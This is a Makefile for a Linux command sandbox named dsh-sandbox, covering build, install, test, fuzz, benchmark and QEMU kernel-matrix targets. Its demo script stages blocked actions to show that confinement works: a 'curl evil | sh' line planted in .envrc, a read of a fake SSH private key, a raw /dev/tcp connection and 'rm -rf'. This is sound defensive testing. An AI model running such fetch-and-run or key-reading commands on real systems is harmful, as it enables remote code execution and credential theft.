# dsh-sandbox — build, demo, test and benchmark targets (GNU make).
#
#   make deps        install build dependencies (libseccomp-dev, pkg-config, gcc, git) when missing
#   make build       build bin/dsh-sandbox-run (cgo)
#   make demo        allowed write, denied write reported as a fact, blocked network, a masked
#                    ~/.ssh, a protected .envrc, an rm -rf in a transaction, listed then discarded
#   make test-deps   install the clients the tests run in the sandbox (curl, python3, pip, venv, npm, cargo)
#   make test        gofmt, go vet, staticcheck (when installed), go test ./... (as CI runs it)
#   make test-hosts  the integration suite once per simulated host (DSH_IT_HOST=each of HOSTS:
#                    nouserns nolandlock apparmor docker usernsonly), as root and DSH_TEST_USER
#                    as make test runs it; RUN=regex limits it to some tests (empty: all)
#   make lint        install staticcheck from the Go module proxy and run it
#   make fuzz        fuzz the bash tool's argument decoder for FUZZTIME (300000 inputs, ~20 s)
#   make bench-deps  install bubblewrap, hyperfine and curl when missing
#   make bench       spawn-overhead benchmark of the CLI (bench/spawn.sh), the executor
#                    benchmarks (bench/executor.sh), the egress proxy's (bench/egress.sh), and
#                    the others of bench/README.md
#   make install     build and install dsh-sandbox-run (and dsh-sandbox-mcp when cmd/dsh-sandbox-mcp
#                    exists), the landlock-run link and the man pages under PREFIX (/usr/local);
#                    DESTDIR stages it, STATIC=1 installs the static build
#   make uninstall   remove what make install installed (same PREFIX, DESTDIR)
#   make static      a fully static bin/dsh-sandbox-run (libseccomp.a, glibc), checked with readelf
#   make check-static  make static, then run the static binary: --probe, a confined command, a denial
#   make check-install make install into a temporary DESTDIR and check it, then make uninstall
#   make cross       go build and go vet ./... for CROSS_GOOS (darwin windows), without cgo: the
#                    packages compile off Linux (where the sandbox returns sandbox.ErrUnsupported)
#   make clean       remove build output
#   make vm-deps     install what make vm-test needs (qemu-system-x86, busybox-static, kmod, cpio,
#                    e2fsprogs)
#   make vm-test     boot a Debian kernel in QEMU (KERNEL=6.1, Landlock ABI 2, or 6.12, ABI 6) and
#                    run the integration tests inside (RUN=regex, GO_TEST_TIMEOUT, VM_TIMEOUT; see
#                    integration/vm/run.sh)
#
# Environment passed through to the tests: DSH_REQUIRE_LANDLOCK, DSH_TEST_USER.

SHELL := /bin/bash
comma := ,
.SHELLFLAGS := -eu -o pipefail -c
.DEFAULT_GOAL := build
.DELETE_ON_ERROR:

# Go 1.26.8 lives in /usr/local/go on the project's machines; use it when `go` is not on PATH.
ifeq ($(shell command -v go 2>/dev/null),)
export PATH := /usr/local/go/bin:$(PATH)
endif

GO          ?= go
BIN         := bin/dsh-sandbox-run
TEST_TIMEOUT ?= 20m
GOTESTFLAGS ?=
STATICCHECK_VERSION ?= v0.8.2
# A count, not a duration: Go 1.26's fuzz coordinator can fail a duration run at its
# deadline with a bare "context deadline exceeded" (golang/go#75804, fixed in Go 1.27).
FUZZTIME    ?= 300000x

# make install: PREFIX, BINDIR, MANDIR; DESTDIR for a staged install (packages).
PREFIX      ?= /usr/local
BINDIR      ?= $(PREFIX)/bin
MANDIR      ?= $(PREFIX)/share/man
DESTDIR     ?=
INSTALL     ?= install
MCP_BIN     := bin/dsh-sandbox-mcp
# The MCP server is built and installed when its command is in the tree.
HAVE_MCP    := $(wildcard cmd/dsh-sandbox-mcp)
# make static, or STATIC=1 for build and install: link fully static (libseccomp.a from
# libseccomp-dev, glibc's libc.a); netgo and osusergo keep the Go side off glibc's NSS.
STATIC_FLAGS := -tags osusergo,netgo -ldflags '-extldflags -static'
BUILD_FLAGS  := $(if $(filter 1,$(STATIC)),$(STATIC_FLAGS))

# sudo only when not root (and only for apt-get).
SUDO := $(shell [ "$$(id -u)" = 0 ] || echo sudo)
APT  := $(SUDO) env DEBIAN_FRONTEND=noninteractive apt-get

# (exported only when set, so that an unset one stays unset for the tests)
ifdef DSH_REQUIRE_LANDLOCK
export DSH_REQUIRE_LANDLOCK
endif
ifdef DSH_TEST_USER
export DSH_TEST_USER
endif

# $(call apt_ensure,PKG...): install, with apt-get, those of the Debian packages PKG... that are
# not installed yet; `apt-get update` runs first, and only when something is to be installed.
define apt_ensure
missing=""; \
for p in $(1); do \
  status="$$(dpkg-query -W -f='$${Status}' "$$p" 2>/dev/null || true)"; \
  case "$$status" in *"install ok installed"*) ;; *) missing="$$missing $$p" ;; esac; \
done; \
if [ -z "$$missing" ]; then \
  echo "deps: already installed: $(strip $(1))"; \
else \
  if ! command -v apt-get >/dev/null 2>&1; then \
    echo "deps: missing$$missing and apt-get is not available; install them by hand" >&2; exit 1; \
  fi; \
  echo "deps: installing$$missing"; \
  $(APT) update -qq; \
  $(APT) install -y -qq -o Dpkg::Use-Pty=0 --no-install-recommends $$missing; \
fi
endef

.PHONY: all deps test-deps bench-deps build demo test test-hosts lint fuzz bench clean vm-deps vm-test \
	install uninstall static check-static check-install cross

all: build

deps:
	@if command -v pkg-config >/dev/null 2>&1 && pkg-config --exists libseccomp; then \
	  echo "deps: libseccomp $$(pkg-config --modversion libseccomp) found by pkg-config"; \
	else \
	  $(call apt_ensure,libseccomp-dev pkg-config); \
	fi
	@if command -v cc >/dev/null 2>&1 || command -v gcc >/dev/null 2>&1; then \
	  echo "deps: C compiler found ($$(command -v cc || command -v gcc))"; \
	else \
	  $(call apt_ensure,gcc libc6-dev); \
	fi
	@if command -v git >/dev/null 2>&1; then \
	  echo "deps: git found"; \
	else \
	  $(call apt_ensure,git); \
	fi
	@command -v $(GO) >/dev/null 2>&1 || { echo "deps: go not found (expected Go 1.26.8 in /usr/local/go)" >&2; exit 1; }

# What the integration tests run inside the sandbox as real clients (the network allowlist's
# tests: curl, git over smart HTTP, pip, npm; python3 throughout).
test-deps:
	@missing=""; \
	command -v curl >/dev/null 2>&1 || missing="$$missing curl"; \
	command -v python3 >/dev/null 2>&1 || missing="$$missing python3"; \
	python3 -m pip --version >/dev/null 2>&1 || missing="$$missing python3-pip"; \
	python3 -c 'import ensurepip, venv' >/dev/null 2>&1 || missing="$$missing python3-venv"; \
	command -v npm >/dev/null 2>&1 || missing="$$missing npm"; \
	[ -x /usr/bin/cargo ] || missing="$$missing cargo"; \
	if [ -z "$$missing" ]; then echo "test-deps: curl, python3, pip, venv, npm and cargo found"; \
	else $(call apt_ensure,$$missing); fi

bench-deps:
	@if command -v bwrap >/dev/null 2>&1 && command -v hyperfine >/dev/null 2>&1 && command -v curl >/dev/null 2>&1; then \
	  echo "bench-deps: bwrap, hyperfine and curl found"; \
	else \
	  $(call apt_ensure,bubblewrap hyperfine curl); \
	fi

build: deps
	CGO_ENABLED=1 $(GO) build $(BUILD_FLAGS) -o $(BIN) ./cmd/dsh-sandbox-run
ifneq ($(HAVE_MCP),)
	CGO_ENABLED=1 $(GO) build $(BUILD_FLAGS) -o $(MCP_BIN) ./cmd/dsh-sandbox-mcp
endif

install: build
	$(INSTALL) -d $(DESTDIR)$(BINDIR) $(DESTDIR)$(MANDIR)/man1
	$(INSTALL) -m 0755 $(BIN) $(DESTDIR)$(BINDIR)/dsh-sandbox-run
ifneq ($(HAVE_MCP),)
	$(INSTALL) -m 0755 $(MCP_BIN) $(DESTDIR)$(BINDIR)/dsh-sandbox-mcp
	$(INSTALL) -m 0644 docs/dsh-sandbox-mcp.1 $(DESTDIR)$(MANDIR)/man1/dsh-sandbox-mcp.1
endif
	ln -sfn dsh-sandbox-run $(DESTDIR)$(BINDIR)/landlock-run
	$(INSTALL) -m 0644 docs/dsh-sandbox-run.1 $(DESTDIR)$(MANDIR)/man1/dsh-sandbox-run.1
	ln -sfn dsh-sandbox-run.1 $(DESTDIR)$(MANDIR)/man1/landlock-run.1

# The landlock-run links go only where they are ours (a link to dsh-sandbox-run).
uninstall:
	rm -f $(DESTDIR)$(BINDIR)/dsh-sandbox-run $(DESTDIR)$(BINDIR)/dsh-sandbox-mcp \
	  $(DESTDIR)$(MANDIR)/man1/dsh-sandbox-run.1 $(DESTDIR)$(MANDIR)/man1/dsh-sandbox-mcp.1
	@for l in $(DESTDIR)$(BINDIR)/landlock-run:dsh-sandbox-run $(DESTDIR)$(MANDIR)/man1/landlock-run.1:dsh-sandbox-run.1; do \
	  if [ "$$(readlink "$${l%:*}" 2>/dev/null)" = "$${l##*:}" ]; then echo "rm -f $${l%:*}"; rm -f "$${l%:*}"; fi; \
	done

static: deps
	CGO_ENABLED=1 $(GO) build $(STATIC_FLAGS) -o $(BIN) ./cmd/dsh-sandbox-run
	@if readelf -lW $(BIN) | grep -q 'program interpreter' || readelf -dW $(BIN) | grep -q '(NEEDED)'; then \
	  echo "static: $(BIN) is dynamically linked:" >&2; readelf -dW $(BIN) | grep NEEDED >&2 || true; exit 1; \
	fi
	@echo "static: $(BIN): $$(if command -v file >/dev/null 2>&1; then file -b $(BIN) | cut -d, -f1-5; else echo 'no program interpreter, no shared libraries'; fi)"

# The static binary confines as the dynamic one: the probe, a confined command, a denied write
# reported as a fact (read-only mode: not even /tmp is writable).
check-static: static
	@set -euo pipefail; d="$$(mktemp -d)"; trap 'rm -rf "$$d"' EXIT; \
	$(BIN) --version; $(BIN) --probe; \
	out="$$($(BIN) --workspace "$$d" -- bash -c 'echo ok')"; \
	[ "$$out" = ok ] || { echo "check-static: a confined echo printed '$$out'" >&2; exit 1; }; \
	rc=0; $(BIN) --workspace "$$d" --report "$$d/report.json" --quiet -- bash -c 'echo x > "$$1"' bash "$$d/denied" 2>/dev/null || rc=$$?; \
	[ "$$rc" != 0 ] && [ ! -e "$$d/denied" ] || { echo "check-static: the write outside the roots went through (exit $$rc)" >&2; exit 1; }; \
	grep -q '"op": "write"' "$$d/report.json" || { echo "check-static: no write denial in the report:" >&2; cat "$$d/report.json" >&2; exit 1; }; \
	echo "check-static: the static $(BIN) confines (echo ok, a denied write reported as a fact)"

# make install into a temporary DESTDIR: the binaries, the landlock-run link, the man page; then
# make uninstall leaves nothing behind.
check-install: build
	@set -euo pipefail; d="$$(mktemp -d)"; trap 'rm -rf "$$d"' EXIT; \
	$(MAKE) --no-print-directory install DESTDIR="$$d" PREFIX=/usr >/dev/null; \
	b="$$d/usr/bin"; m="$$d/usr/share/man/man1"; \
	[ -x "$$b/dsh-sandbox-run" ] && [ "$$(readlink "$$b/landlock-run")" = dsh-sandbox-run ] && [ -f "$$m/dsh-sandbox-run.1" ] \
	  && [ "$$(readlink "$$m/landlock-run.1")" = dsh-sandbox-run.1 ] || { echo "check-install: missing from $$d:" >&2; find "$$d" >&2; exit 1; }; \
	if [ -n "$(HAVE_MCP)" ] && { [ ! -x "$$b/dsh-sandbox-mcp" ] || [ ! -f "$$m/dsh-sandbox-mcp.1" ]; }; then echo "check-install: no dsh-sandbox-mcp or its man page" >&2; exit 1; fi; \
	"$$b/dsh-sandbox-run" --version >/dev/null; \
	if command -v groff >/dev/null 2>&1; then for p in "$$m"/dsh-sandbox-*.1; do w="$$(groff -man -ww -z "$$p" 2>&1)"; \
	  [ -z "$$w" ] || { echo "check-install: groff warns about $$p: $$w" >&2; exit 1; }; done; fi; \
	$(MAKE) --no-print-directory uninstall DESTDIR="$$d" PREFIX=/usr >/dev/null; \
	left="$$(find "$$d" ! -type d)"; [ -z "$$left" ] || { echo "check-install: make uninstall left: $$left" >&2; exit 1; }; \
	echo "check-install: make install put dsh-sandbox-run$(if $(HAVE_MCP),$(comma) dsh-sandbox-mcp), the landlock-run link and the man pages in DESTDIR; make uninstall removed them"

# Off Linux the packages compile and the sandbox's entry points return sandbox.ErrUnsupported,
# so that a cross-platform harness links it; this keeps them compiling.
CROSS_GOOS ?= darwin windows
cross:
	@for os in $(CROSS_GOOS); do \
	  echo "GOOS=$$os CGO_ENABLED=0 $(GO) build ./... && $(GO) vet ./..."; \
	  GOOS=$$os CGO_ENABLED=0 $(GO) build ./... && GOOS=$$os CGO_ENABLED=0 $(GO) vet ./...; \
	done

test: deps test-deps build check-install cross
	@echo "test: $$($(GO) version); DSH_REQUIRE_LANDLOCK=$${DSH_REQUIRE_LANDLOCK:-} DSH_TEST_USER=$${DSH_TEST_USER:-}"
	@echo "test: gofmt -l"
	@unformatted="$$(find . \( -path ./.git -o -path ./bin -o -path ./vendor -o -name testdata \) -prune \
	    -o -type f -name '*.go' -print0 | xargs -0 -r gofmt -l)"; \
	if [ -n "$$unformatted" ]; then \
	  echo "test: these files need gofmt:" >&2; echo "$$unformatted" >&2; exit 1; \
	fi
	$(GO) vet ./...
	@sc="$$(command -v staticcheck 2>/dev/null || true)"; \
	gobin="$$($(GO) env GOBIN)"; gobin="$${gobin:-$$($(GO) env GOPATH)/bin}"; \
	if [ -z "$$sc" ] && [ -x "$$gobin/staticcheck" ]; then sc="$$gobin/staticcheck"; fi; \
	if [ -n "$$sc" ]; then echo "$$sc ./..."; "$$sc" ./...; \
	else echo "test: staticcheck not installed, skipped (make lint installs it)"; fi
	CGO_ENABLED=1 $(GO) test -count=1 -timeout $(TEST_TIMEOUT) $(GOTESTFLAGS) ./...

# Every command the integration suite starts without a degradation of its own runs on the
# simulated host (integration/degraded_test.go); each host's time is printed, and the target
# fails if any host did.
HOSTS ?= nouserns nolandlock apparmor docker usernsonly
RUN   ?=
test-hosts: deps test-deps
	@failed=""; for h in $(HOSTS); do \
	  echo "test-hosts: DSH_IT_HOST=$$h DSH_REQUIRE_LANDLOCK=$${DSH_REQUIRE_LANDLOCK:-} DSH_TEST_USER=$${DSH_TEST_USER:-}"; \
	  start=$$(date +%s); \
	  if DSH_IT_HOST=$$h CGO_ENABLED=1 $(GO) test -count=1 -timeout $(TEST_TIMEOUT) $(GOTESTFLAGS) $(if $(RUN),-run '$(RUN)') ./integration/; \
	  then res=ok; else res=FAILED; failed="$$failed $$h"; fi; \
	  echo "test-hosts: DSH_IT_HOST=$$h $$res in $$(( $$(date +%s) - start ))s"; \
	done; \
	if [ -n "$$failed" ]; then echo "test-hosts: failed on:$$failed" >&2; exit 1; fi

lint: deps
	$(GO) install honnef.co/go/tools/cmd/staticcheck@$(STATICCHECK_VERSION)
	$(GO) vet ./...
	gobin="$$($(GO) env GOBIN)"; "$${gobin:-$$($(GO) env GOPATH)/bin}/staticcheck" ./...

fuzz: deps
	CGO_ENABLED=1 $(GO) test -run '^$$' -fuzz '^FuzzDecodeArgs$$' -fuzztime $(FUZZTIME) ./tool

bench: bench-deps build
	bash bench/spawn.sh
	bash bench/workloads.sh
	bash bench/executor.sh
	bash bench/egress.sh
	bash bench/caches.sh
	bash bench/session-floor.sh
	@if [ "$$(id -u)" = 0 ]; then bash bench/command-floor/command-floor.sh; \
	else echo "bench: bench/command-floor/command-floor.sh skipped: it needs root (its cgroups and mounts)"; fi

clean:
	rm -rf bin bench/results

# ---------------------------------------------------------------------------------------------
# make demo — run by bash from the environment variable DEMO_SCRIPT (kept verbatim: no make
# expansion inside).
define demo_script
set -uo pipefail
BIN="${DSH_BIN:-$PWD/bin/dsh-sandbox-run}"
problems=0
ok()  { printf '   OK: %s\n' "$*"; }
bad() { printf '   UNEXPECTED: %s\n' "$*"; problems=$((problems + 1)); }
heading() { printf '\n== %s\n' "$*"; }
show_json() { if command -v python3 >/dev/null 2>&1; then python3 -m json.tool "$1"; else cat "$1"; echo; fi; }

# The demo directory must not lie under the sandbox's always-writable roots (/tmp, $TMPDIR,
# /dev/shm), or the "outside" write would be allowed: use /var/tmp, else $HOME, else bin/.
writable_anyway() {
  local d; d="$(realpath -m "$1")/"
  case "$d" in /tmp/*|/dev/shm/*) return 0 ;; esac
  if [ -n "${TMPDIR:-}" ]; then case "$d" in "$(realpath -m "$TMPDIR")"/*) return 0 ;; esac; fi
  return 1
}
demo=""
for base in /var/tmp "${HOME:-}" "$PWD/bin"; do
  if [ -z "$base" ] || [ ! -d "$base" ] || [ ! -w "$base" ] || writable_anyway "$base"; then continue; fi
  demo="$(mktemp -d "$base/dsh-demo.XXXXXX")" && break
done
if [ -z "$demo" ]; then echo "demo: no directory outside /tmp, \$TMPDIR and /dev/shm to work in" >&2; exit 1; fi
ws="$demo/workspace"; outside="$demo/outside"
mkdir -p "$ws" "$outside"
listener=""
cleanup() {
  if [ -n "$listener" ]; then kill "$listener" 2>/dev/null; wait "$listener" 2>/dev/null; fi
  rm -rf "$demo"
}
trap cleanup EXIT

heading "probe: what this host can enforce ($BIN --probe)"
"$BIN" --probe || echo "   (--probe exited $?)"

heading "1. allowed: write inside the workspace in workspace-write mode"
echo "   workspace: $ws"
echo "   \$ dsh-sandbox-run --mode workspace-write --workspace $ws -- bash -c 'echo hello > hello.txt'"
(cd "$ws" && "$BIN" --mode workspace-write --workspace "$ws" -- bash -c 'echo "hello from the sandbox" > hello.txt')
rc=$?
echo "   exit status: $rc"
if [ "$rc" = 0 ] && [ -f "$ws/hello.txt" ]; then
  ok "$ws/hello.txt exists: $(cat "$ws/hello.txt")"
else
  bad "the write inside the workspace failed (exit $rc)"
fi

heading "2. denied: write outside the writable roots, reported as a fact"
target="$outside/escape.txt"
echo "   \$ dsh-sandbox-run --mode workspace-write --workspace $ws --report report.json -- bash -c 'echo pwned > $target'"
rc=0
# shellcheck disable=SC2016 # "$1" is expanded by the inner bash
(cd "$ws" && "$BIN" --mode workspace-write --workspace "$ws" --report "$demo/report.json" -- bash -c 'echo pwned > "$1"' bash "$target") 2>"$demo/stderr.txt" || rc=$?
sed 's/^/   stderr| /' "$demo/stderr.txt"
echo "   exit status: $rc"
want="dsh-sandbox-run: denied write $target (workspace-write mode)"
if grep -qxF "$want" "$demo/stderr.txt"; then ok "denial line: $want"; else bad "no line: $want"; fi
if [ -e "$target" ]; then bad "$target exists: the write went through"; else ok "$target does not exist"; fi
[ "$rc" != 0 ] || bad "the denied command exited 0"
echo "   report ($demo/report.json):"
if [ -s "$demo/report.json" ]; then show_json "$demo/report.json" | sed 's/^/   /'; else bad "no report written"; fi

heading "3. network: blocked without --network, allowed with it, and by name with an allowlist"
port=""
if command -v python3 >/dev/null 2>&1; then
  (cd "$outside" && exec python3 -u -m http.server --bind 127.0.0.1 0) >"$demo/http.log" 2>&1 &
  listener=$!
  for _ in $(seq 1 100); do
    port="$(sed -n 's/.* port \([0-9][0-9]*\).*/\1/p' "$demo/http.log" | sed -n 1p)"
    [ -n "$port" ] && break
    sleep 0.05
  done
fi
if [ -z "$port" ]; then
  bad "could not start a loopback listener (python3 -m http.server); network step skipped"
else
  echo "   listener: python3 -m http.server on 127.0.0.1:$port"
  probe_cmd='exec 3<>/dev/tcp/127.0.0.1/'"$port"' && printf "GET / HTTP/1.0\r\n\r\n" >&3 && head -n1 <&3'
  echo "   \$ dsh-sandbox-run --mode workspace-write -- bash -c '$probe_cmd'"
  rc=0
  (cd "$ws" && "$BIN" --mode workspace-write --workspace "$ws" -- bash -c "$probe_cmd") 2>&1 | sed 's/^/   | /' || rc=$?
  echo "   exit status: $rc"
  if [ "$rc" != 0 ]; then ok "connection refused by the sandbox"; else bad "the connection went through without --network"; fi
  echo "   \$ dsh-sandbox-run --mode workspace-write --network -- bash -c '$probe_cmd'"
  rc=0
  (cd "$ws" && "$BIN" --mode workspace-write --workspace "$ws" --network -- bash -c "$probe_cmd") 2>&1 | sed 's/^/   | /' || rc=$?
  echo "   exit status: $rc"
  if [ "$rc" = 0 ]; then ok "connected with --network"; else bad "the connection failed with --network"; fi
  if command -v curl >/dev/null 2>&1; then
    allow="--allow-domain demo.test --allow-domain 127.0.0.1 --resolve demo.test=127.0.0.1"
    echo "   \$ dsh-sandbox-run --mode workspace-write $allow -- bash -c 'curl -sSI http://demo.test:$port/; curl -sS http://elsewhere.test:$port/'"
    rc=0
    # shellcheck disable=SC2086 # $allow is a list of flags
    (cd "$ws" && "$BIN" --mode workspace-write --workspace "$ws" $allow -- bash -c "curl -sSI http://demo.test:$port/ | head -n1; curl -sS http://elsewhere.test:$port/") >"$demo/out3.txt" 2>&1 || rc=$?
    sed 's/^/   | /' "$demo/out3.txt"
    if grep -q '^HTTP/1.[01] 200' "$demo/out3.txt"; then ok "demo.test reached through the egress proxy"; else bad "demo.test was not reached through the allowlist"; fi
    want="dsh-sandbox-run: denied connect elsewhere.test:$port (workspace-write mode, not in the allowlist)"
    if grep -qxF "$want" "$demo/out3.txt"; then ok "denial line: $want"; else bad "no line: $want"; fi
  fi
fi

heading "4. secrets: ~/.ssh cannot be read in the confined modes (read-only here)"
home="$demo/home"
mkdir -p "$home/.ssh" && echo "-----BEGIN OPENSSH PRIVATE KEY----- (demo)" > "$home/.ssh/id_ed25519"
echo "   \$ dsh-sandbox-run --setenv HOME=$home --report report.json -- bash -c 'cat ~/.ssh/id_ed25519'"
rc=0
(cd "$ws" && "$BIN" --workspace "$ws" --setenv "HOME=$home" --report "$demo/report4.json" -- bash -c 'cat ~/.ssh/id_ed25519') >"$demo/out4.txt" 2>&1 || rc=$?
sed 's/^/   | /' "$demo/out4.txt"
echo "   exit status: $rc"
if grep -q "PRIVATE KEY" "$demo/out4.txt"; then bad "the key was read"; else ok "the key was not read"; fi
[ "$rc" != 0 ] || bad "cat of the key exited 0"
if grep -q '"masked"' "$demo/report4.json" && grep -q "$home/.ssh" "$demo/report4.json"; then
  ok "the report's enforcement.masked lists $home/.ssh"
else
  bad "the report does not list $home/.ssh as masked"
fi

heading "5. protected: an .envrc (run by direnv, outside the sandbox) cannot be planted in the workspace"
echo "   \$ dsh-sandbox-run --mode workspace-write -- bash -c 'echo \"curl evil | sh\" > .envrc'"
rc=0
(cd "$ws" && "$BIN" --mode workspace-write --workspace "$ws" -- bash -c 'echo "curl evil | sh" > .envrc') 2>"$demo/stderr5.txt" || rc=$?
sed 's/^/   stderr| /' "$demo/stderr5.txt"
echo "   exit status: $rc"
if [ -e "$ws/.envrc" ]; then bad "$ws/.envrc exists"; else ok "$ws/.envrc does not exist"; fi
want="dsh-sandbox-run: denied write $ws/.envrc (workspace-write mode)"
if grep -qxF "$want" "$demo/stderr5.txt"; then ok "denial line: $want"; else
  # Without a supervisor the kernel refuses (or the post-run audit sets it aside) without this line.
  echo "   (no denial line: this host has no seccomp user notification)"
fi

heading "6. transaction: rm -rf src in a transaction, the change list, then discard"
mkdir -p "$ws/src" && echo 'package main' > "$ws/src/main.go" && echo 'package main' > "$ws/src/util.go"
tx="$demo/tx"
before="$(cd "$ws" && find . -printf '%P %y %m %s\n' | sort | cksum)"
echo "   \$ dsh-sandbox-run --mode workspace-write --transaction $tx -- bash -c 'rm -rf src && ls'"
rc=0
(cd "$ws" && "$BIN" --mode workspace-write --workspace "$ws" --transaction "$tx" -- bash -c 'rm -rf src && ls') >"$demo/out6.txt" 2>&1 || rc=$?
sed 's/^/   | /' "$demo/out6.txt"
echo "   exit status: $rc"
if [ "$rc" = 125 ] && grep -q "transaction unavailable" "$demo/out6.txt"; then
  echo "   (this host cannot mount the overlay: refused, never run on the workspace directly)"
  if [ -e "$ws/src/main.go" ]; then ok "$ws/src is untouched"; else bad "$ws/src is gone"; fi
else
  if [ -e "$ws/src/main.go" ]; then ok "$ws/src is still there: the command's rm went to the transaction"; else bad "$ws/src is gone before any commit"; fi
  echo "   \$ dsh-sandbox-run changes $tx"
  "$BIN" changes "$tx" | sed 's/^/   | /'
  if "$BIN" changes "$tx" | grep -q '"op": "removed"'; then ok "the change list has the removal"; else bad "the change list has no removal"; fi
  echo "   \$ dsh-sandbox-run discard $tx"
  "$BIN" discard "$tx" | sed 's/^/   | /'
  after="$(cd "$ws" && find . -printf '%P %y %m %s\n' | sort | cksum)"
  if [ "$before" = "$after" ]; then ok "discarded: the workspace is as it was"; else bad "the workspace changed"; fi
fi

echo
if [ "$problems" = 0 ]; then echo "demo: all steps behaved as expected"; else echo "demo: $problems unexpected outcome(s)"; exit 1; fi
endef

demo: export DEMO_SCRIPT := $(value demo_script)
demo: build
	@bash -c "$$DEMO_SCRIPT"

# ---------------------------------------------------------------------------------------------
# make vm-test — the kernel matrix in QEMU. Kernels are downloaded with apt-get into
# integration/vm/.cache (not committed).
KERNEL ?= 6.1

vm-deps:
	@$(call apt_ensure,qemu-system-x86 busybox-static kmod cpio xz-utils e2fsprogs)

vm-test: deps vm-deps
	KERNEL=$(KERNEL) GO=$(GO) bash integration/vm/run.sh
